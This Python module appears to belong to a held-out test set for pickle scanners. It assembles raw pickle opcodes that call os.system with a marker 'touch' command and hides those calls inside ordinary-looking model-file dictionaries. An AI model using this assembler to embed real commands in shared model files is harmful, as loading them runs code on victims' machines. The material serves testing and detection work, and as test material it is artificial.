"""Round 5: an assembler of pickle opcodes, from expressions, for every protocol.

Payloads touch a file named `held-out-mark` in the current folder; nothing here loads a sample but
`fifth_check`, in a sandbox without a network.
"""

import struct
from dataclasses import dataclass
from typing import Any

from held_out import Sample

MARK = "held-out-mark"
CMD = f"touch {MARK}"
ARGV = ["/usr/bin/touch", MARK]
EXPR = f"open('{MARK}', 'w').close()"
MOD = "held_out_payload"  # a module that `fifth_check` lays beside a sample: it runs EXPR
FILE = f"{MOD}.py"


@dataclass(frozen=True)
class Checked(Sample):
    """A sample of which `fifth_check` knows how it is loaded, and what loading must show."""

    loads: str = ""


class Node:
    def __init__(self, *parts: Any) -> None:
        self.parts = parts


class G(Node):
    """A global: module, qualified name."""


class Call(Node):
    """REDUCE: function, arguments."""


class New(Node):
    """NEWOBJ: class, arguments."""


class Ex(Node):
    """NEWOBJ_EX: class, tuple of arguments, dictionary of keywords."""


class State(Node):
    """BUILD: object, state."""


class Append(Node):
    """APPEND: object, item."""


class Extend(Node):
    """APPENDS: object, items."""


class Item(Node):
    """SETITEM: object, key, value."""


class Add(Node):
    """ADDITEMS: object, items."""


class Obj(Node):
    """OBJ: class, arguments."""


class Inst(Node):
    """INST: module, name, arguments."""


class Raw(Node):
    """Opcodes as they are; they leave one value."""


def g(path: str) -> G:
    module, name = path.split(":")
    return G(module, name)


def c(path: str, *args: Any) -> Call:
    return Call(g(path), *args)


def text(value: str, protocol: int) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    if protocol == 0:
        escaped = value.replace("\\", "\\u005c").replace("\n", "\\u000a")
        return b"V" + escaped.encode("raw-unicode-escape") + b"\n"
    if protocol >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes, protocol: int) -> bytes:
    if protocol < 3:
        return enc(c("_codecs:encode", value.decode("latin-1"), "latin-1"), protocol)
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    return b"B" + struct.pack("<I", len(value)) + value


def many(values: Any, protocol: int) -> bytes:
    return b"".join(enc(v, protocol) for v in values)


def args(values: Any, protocol: int) -> bytes:
    body = many(values, protocol)
    if protocol >= 2 and len(values) < 4:
        return [b")", body + b"\x85", body + b"\x86", body + b"\x87"][len(values)]
    return b"(" + body + b"t"


def node(value: Node, p: int) -> bytes:
    parts = value.parts
    match value:
        case Raw():
            return bytes(parts[0])
        case G() if p >= 4 or "." in parts[1]:
            return enc(parts[0], 4) + enc(parts[1], 4) + b"\x93"
        case G():
            return b"c" + f"{parts[0]}\n{parts[1]}\n".encode()
        case Call():
            return enc(parts[0], p) + args(parts[1:], p) + b"R"
        case New():
            return enc(parts[0], p) + args(parts[1:], p) + b"\x81"
        case Ex():
            return enc(parts[0], p) + args(parts[1], p) + enc(parts[2], p) + b"\x92"
        case State():
            return enc(parts[0], p) + enc(parts[1], p) + b"b"
        case Append():
            return enc(parts[0], p) + enc(parts[1], p) + b"a"
        case Extend():
            return enc(parts[0], p) + b"(" + many(parts[1], p) + b"e"
        case Item():
            return many(parts, p) + b"s"
        case Add():
            return enc(parts[0], p) + b"(" + many(parts[1], p) + b"\x90"
        case Obj():
            return b"(" + many(parts, p) + b"o"
        case Inst():
            return b"(" + many(parts[2:], p) + b"i" + f"{parts[0]}\n{parts[1]}\n".encode()
    raise TypeError(value)


def enc(value: Any, p: int = 4) -> bytes:
    """Return opcodes that leave the value on the stack."""
    if isinstance(value, Node):
        return node(value, p)
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return (b"\x88" if value else b"\x89") if p >= 2 else b"I01\n" if value else b"I00\n"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value) if p else b"I%d\n" % value
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value) if p else b"F%r\n" % value
    if isinstance(value, str):
        return text(value, p)
    if isinstance(value, bytes):
        return raw(value, p)
    if isinstance(value, tuple):
        return args(value, p)
    if isinstance(value, list):
        return b"(" + many(value, p) + b"l" if p == 0 else b"](" + many(value, p) + b"e"
    if isinstance(value, dict):
        flat = [x for pair in value.items() for x in pair]
        return b"(" + many(flat, p) + b"d" if p == 0 else b"}(" + many(flat, p) + b"u"
    raise TypeError(value)


def made(body: Any, p: int = 4) -> bytes:
    """Return a whole pickle."""
    code = body if isinstance(body, bytes) else enc(body, p)
    if p >= 4:
        code = b"\x95" + struct.pack("<Q", len(code) + 1) + code
    return (b"\x80" + bytes([p]) if p >= 2 else b"") + code + b"."


def dotted(value: Any) -> bool:
    """Return whether a global in the expression has a dotted name: protocol 4 reads it."""
    if isinstance(value, G):
        return "." in str(value.parts[1])
    if isinstance(value, Node):
        return any(dotted(v) for v in value.parts)
    if isinstance(value, tuple | list):
        return any(dotted(v) for v in value)
    return isinstance(value, dict) and any(dotted(v) for v in value.values())


SYSTEM = c("os:system", CMD)
INNER = made(c("posix:system", CMD), 2)


def hidden(value: Any, at: int) -> Any:
    """Put an expression where models have ordinary things: bare, in a dictionary, or dropped."""
    settings = {"n_estimators": 100, "classes": ["ham", "spam"], "threshold": 0.5}
    if at % 3 == 0:
        return value
    if at % 3 == 1:
        return {"version": "1.4.2", "params": settings, "preprocess": value}
    return Raw(enc(value, 4) + b"0" + enc({"weights": [0.25, -1.5], "params": settings}, 4))
